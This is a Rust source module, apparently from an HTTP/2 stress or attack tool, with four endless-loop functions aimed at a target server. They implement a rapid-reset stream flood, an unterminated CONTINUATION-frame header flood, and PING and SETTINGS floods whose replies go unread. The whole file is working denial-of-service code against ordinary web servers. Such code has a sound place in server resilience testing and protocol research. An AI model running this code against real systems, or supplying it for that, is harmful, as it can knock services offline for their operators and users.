//! Attacks by frames that carry no request.

use std::io;
use std::time::Duration;

use super::connection::{Connection, Target};
use super::streams;
use super::wire::{self, FRAME_MAX, kind};

/// Frames in one write.
const BATCH: usize = 100;

/// Streams that are reset as soon as they are opened. What the server says is read, so that it goes on.
pub(super) async fn rapid_reset(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let check = wire::headers(streams::CHECK, None, &[]);
    loop {
        for _ in 0..BATCH {
            let stream = connection.request(&check, false).await?;
            connection.reset(stream).await?;
        }
        connection.attend(Duration::ZERO).await?;
    }
}

/// The headers of one request, which go on without an end.
pub(super) async fn continuations(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let first = wire::headers(streams::CHECK, None, &[]);
    connection.write(&wire::frame(kind::HEADERS, 0, 1, &first)).await?;
    let mut more = Vec::new();
    while more.len() + 150 < FRAME_MAX {
        wire::literal(&mut more, "x-more", &"x".repeat(100));
    }
    let more = wire::frame(kind::CONTINUATION, 0, 1, &more);
    loop {
        connection.write(&more).await?;
        connection.attend(Duration::ZERO).await?;
    }
}

/// PINGs; the answers are not read.
pub(super) async fn pings(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let batch = wire::frame(kind::PING, 0, 0, b"pingping").repeat(BATCH);
    loop {
        connection.write(&batch).await?;
    }
}

/// Settings that change nothing; the answers are not read.
pub(super) async fn settings(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let batch = wire::settings(&[(wire::setting::INITIAL_WINDOW_SIZE, 65_535)]).repeat(BATCH);
    loop {
        connection.write(&batch).await?;
    }
}
